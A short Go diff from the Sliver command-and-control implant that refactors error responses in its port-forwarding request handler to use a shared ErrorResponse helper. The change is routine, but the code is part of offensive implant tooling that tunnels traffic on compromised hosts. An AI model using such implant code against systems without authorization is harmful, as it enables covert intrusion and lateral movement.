@@ -32,7 +32,6 @@ import (
 	// {{end}}
 
 	"github.com/bishopfox/sliver/implant/sliver/transports"
-	"github.com/bishopfox/sliver/protobuf/commonpb"
 	"github.com/bishopfox/sliver/protobuf/sliverpb"
 	"google.golang.org/protobuf/proto"
 )
@@ -45,9 +44,7 @@ func PortfwdReqHandler(envelope *sliverpb.Envelope, connection *transports.Conne
 		log.Printf("[portfwd] Failed to unmarshal protobuf %s", err)
 		// {{end}}
 		portfwdResp, _ := proto.Marshal(&sliverpb.Portfwd{
-			Response: &commonpb.Response{
-				Err: err.Error(),
-			},
+			Response: sliverpb.ErrorResponse(err),
 		})
 		reportError(envelope, connection, portfwdResp)
 		return
@@ -70,9 +67,7 @@ func PortfwdReqHandler(envelope *sliverpb.Envelope, connection *transports.Conne
 		// {{end}}
 		cancelContext()
 		portfwdResp, _ := proto.Marshal(&sliverpb.Portfwd{
-			Response: &commonpb.Response{
-				Err: err.Error(),
-			},
+			Response: sliverpb.ErrorResponse(err),
 		})
 		reportError(envelope, connection, portfwdResp)
 		return